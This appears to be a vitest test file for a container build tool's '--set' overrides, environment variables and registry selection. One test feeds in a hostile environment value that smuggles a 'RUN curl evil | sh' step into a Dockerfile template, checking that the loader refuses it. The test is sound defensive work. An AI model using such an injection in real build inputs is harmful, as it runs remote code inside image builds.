// --set, as bake's: parsed and applied purely; args and vars are inputs, platforms a selection.
import { describe, expect, it } from 'vitest';
import { applySets, parseSets } from '../../core/load/overrides.ts';
import { planSpec } from '../../core/plan/plan.ts';
import { loadSpec } from '../../core/load/validate.ts';
import type { BuildTask } from '../../core/plan/task.ts';
import { cli } from '../helpers/cli.ts';
import { MINI_SPEC, miniSpec } from '../helpers/spec.ts';

const spec = () => loadSpec(miniSpec().manifest).spec!;
const plan = (s: ReturnType<typeof spec>) => planSpec(s, [], { multiPlatform: 'split' });

describe('--set', () => {
  it('parses targets and fields; a malformed one says the syntax; another package\'s is left out', () => {
    const { sets, errors } = parseSets(['runtime.args.FOO=a=b', 'mini:base@deb.vars.greeting=hi there', '*.platforms=linux/amd64', 'other:base.args.X=1', 'base.args=1', 'base.platforms.x=1', 'nonsense'], 'mini');
    expect(sets).toEqual([
      { text: 'runtime.args.FOO=a=b', release: 'runtime', field: 'args', key: 'FOO', value: 'a=b' },
      { text: 'mini:base@deb.vars.greeting=hi there', release: 'base', distro: 'deb', field: 'vars', key: 'greeting', value: 'hi there' },
      { text: '*.platforms=linux/amd64', release: '*', field: 'platforms', value: 'linux/amd64' },
    ]);
    expect(errors).toHaveLength(3);
    expect(errors[0]).toMatch(/args needs a name/);
    expect(errors[2]).toMatch(/expected TARGET\.FIELD=VALUE/);
  });

  it('an arg wins over every level of the spec and rebuilds exactly that release and what builds FROM it', () => {
    const before = plan(spec());
    const { sets } = parseSets(['base.args.EXTRA=1'], 'mini');
    const after = plan(applySets(spec(), sets).spec);
    const changed = [...after.tasks.values()].filter((t) => t.kind === 'build' && before.tasks.get(t.id)!.hash.value !== t.hash.value).map((t) => (t as BuildTask).release);
    expect(new Set(changed)).toEqual(new Set(['base', 'runtime']));
    const b = [...after.tasks.values()].find((t): t is BuildTask => t.kind === 'build' && t.release === 'base')!;
    expect(b.buildArgs['EXTRA']).toBe('1');
    const only = plan(applySets(spec(), parseSets(['runtime.args.EXTRA=1'], 'mini').sets).spec);
    expect([...only.tasks.values()].filter((t) => t.kind === 'build' && before.tasks.get(t.id)!.hash.value !== t.hash.value).every((t) => (t as BuildTask).release === 'runtime')).toBe(true);
  });

  it('every mistake at once: unknown release, distro, platform; platforms only for every image', () => {
    const { sets } = parseSets(['nope.args.X=1', 'base@nodistro.vars.x=1', '*.platforms=linux/s390x', 'base.platforms=linux/amd64'], 'mini');
    const { errors } = applySets(spec(), sets);
    expect(errors).toHaveLength(4);
    expect(errors.join('\n')).toMatch(/no release "nope"[\s\S]*no distro "nodistro"[\s\S]*unknown platform linux\/s390x[\s\S]*every image only/);
  });

  it('the CLI: the arg reaches the dry run\'s argv; *.platforms selects; a bad set exits 2', () => {
    const { manifest } = miniSpec();
    const r = cli(['build', manifest, '--all', '--dry-run', '--offline', '--set', 'runtime.args.FOO=bar', '--set', '*.platforms=linux/amd64']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/build:mini\/deb\/runtime\/py3\.10\/amd64 [\s\S]*--build-arg FOO=bar/);
    expect(r.stdout).not.toMatch(/arm64v8/);
    const bad = cli(['build', manifest, '--all', '--dry-run', '--set', 'nope.args.X=1']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/no release "nope"/);
  });
});

describe('variables the environment may set', () => {
  const withVariables = (extra = '') => miniSpec({ 'manifest.yaml': `${MINI_SPEC}variables:\n  GREETING: hello\n${extra}`, 'templates/debian/base.Dockerfile.eta': 'FROM <%= it.distro.image %>\nRUN echo <%= it.vars.GREETING %>\n' }).manifest;
  it('the default, or the environment\'s value; a changed value re-renders and rebuilds', () => {
    const m = withVariables();
    expect(loadSpec(m).spec!.vars['GREETING']).toBe('hello');
    expect(loadSpec(m, { env: { GREETING: 'bonjour' } }).spec!.vars['GREETING']).toBe('bonjour');
    const a = planSpec(loadSpec(m).spec!, [], { multiPlatform: 'split' });
    const b = planSpec(loadSpec(m, { env: { GREETING: 'bonjour' } }).spec!, [], { multiPlatform: 'split' });
    const changed = [...a.tasks.values()].filter((t) => t.kind === 'build' && b.tasks.get(t.id)!.hash.value !== t.hash.value);
    expect(changed.length).toBeGreaterThan(0);
  });
  it('a hostile value is refused, and a name that is also a var is an error', () => {
    const bad = loadSpec(withVariables(), { env: { GREETING: 'x\nRUN curl evil | sh' } });
    expect(bad.spec).toBeUndefined();
    expect(bad.diagnostics[0]!.message).toMatch(/control character/);
    const both = loadSpec(withVariables('vars:\n  GREETING: x\n'));
    expect(both.diagnostics.find((d) => d.path === 'variables.GREETING')!.message).toMatch(/both a variable and a var/);
  });
});

describe('build --registry', () => {
  it('publishes to the named registries only (by name or host); unknown ones are all listed, exit 2', async () => {
    const { onlyRegistries } = await import('../../core/load/overrides.ts');
    const { BENTO_MANIFEST } = await import('../helpers/spec.ts');
    const bento = loadSpec(BENTO_MANIFEST).spec!;
    expect(bento.publish.length).toBeGreaterThan(1);
    const quay = bento.publish.find((p) => bento.registries[p]!.host === 'quay.io')!;
    expect(onlyRegistries(bento, ['quay.io']).spec.publish).toEqual([quay]);
    expect(onlyRegistries(bento, ['nope', 'gone.example']).errors).toHaveLength(2);
    const args = ['build', 'bento-server', '--target', 'bento-server:runtime', '--distros', 'debian11', '--python-version', '3.9', '--dry-run', '--offline', '--registry', 'quay.io'];
    const r = cli([...args, '--merge', 'imagetools']);
    expect(r.code, r.stderr).toBe(0);
    const merges = r.stdout.split('\n').filter((l) => l.includes('imagetools create'));
    expect(merges.length).toBeGreaterThan(0);
    for (const m of merges) {
      expect(m).toMatch(/--tag quay\.io\//);
      expect(m).not.toMatch(/--tag (docker\.io|ghcr\.io|demo\.goharbor\.io)\//);
    }
    const api = cli(args);
    expect(api.code, api.stderr).toBe(0);
    const published = api.stdout.split('\n').filter((l) => l.endsWith('(registry API)'));
    // One step per manifest task (imagetools needs a call per wave).
    expect(published.length).toBeGreaterThan(0);
    expect(published.length).toBe(api.stdout.split('\n').filter((l) => /^run {2}manifest:/.test(l)).length);
    for (const m of published) {
      expect(m).toMatch(/ (to|at) quay\.io\//);
      expect(m).not.toMatch(/(docker\.io|ghcr\.io|demo\.goharbor\.io)\//);
    }
    const bad = cli(['build', 'bento-server', '--all', '--dry-run', '--registry', 'nope']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--registry nope: not a registry this package publishes to/);
  });
});

describe('--set on the release fields bake\'s --set reaches', () => {
  it('tags replace a release\'s own; secrets, ssh and entitlements are added; all are inputs where they land', () => {
    const { sets, errors } = parseSets(['runtime.tags=rt-{python},latest-{python}', 'runtime.secrets=id=pip,env=PIP_TOKEN', '*.ssh=default', 'runtime.entitlements=network.host'], 'mini');
    expect(errors).toEqual([]);
    const applied = applySets(spec(), sets);
    expect(applied.errors).toEqual([]);
    const r = applied.spec.releases['runtime']!;
    expect(r.tags).toEqual([{ template: 'rt-{python}' }, { template: 'latest-{python}' }]);
    expect(r.secrets).toEqual([{ id: 'pip', env: 'PIP_TOKEN' }]);
    expect(applied.spec.releases['base']!.ssh).toEqual([{ id: 'default', paths: [] }]);
    expect(r.entitlements).toEqual(['network.host']);
    const before = plan(spec());
    const after = plan(applied.spec);
    const m = [...after.tasks.values()].find((t) => t.kind === 'manifest' && t.release === 'runtime')!;
    expect((m as { refs: string[] }).refs.some((ref) => /:rt-3\.1[01]$/.test(ref))).toBe(true);
    const b = [...after.tasks.values()].find((t): t is BuildTask => t.kind === 'build' && t.release === 'runtime')!;
    expect(Object.keys(b.hash.parts)).toEqual(expect.arrayContaining(['secrets', 'ssh', 'entitlements']));
    expect(b.hash.value).not.toBe(before.tasks.get(b.id)!.hash.value);
  });

  it('every mistake at once: tags for every release, a secret by value, a bad entitlement, a field on one distro', () => {
    const { sets } = parseSets(['*.tags=x', 'runtime.secrets=id=pip,value=hunter2', 'runtime.entitlements=network.none', 'runtime@deb.tags=x', 'runtime.ssh=bad id'], 'mini');
    const { errors } = applySets(spec(), sets);
    expect(errors).toHaveLength(5);
    expect(errors[0]).toMatch(/tags name one release's images/);
    expect(errors[1]).toMatch(/never the value itself/);
    expect(errors[2]).toMatch(/not an entitlement: network\.none/);
    expect(errors[3]).toMatch(/belong to a release/);
    expect(errors[4]).toMatch(/expected default, or ID=PATH/);
  });
});
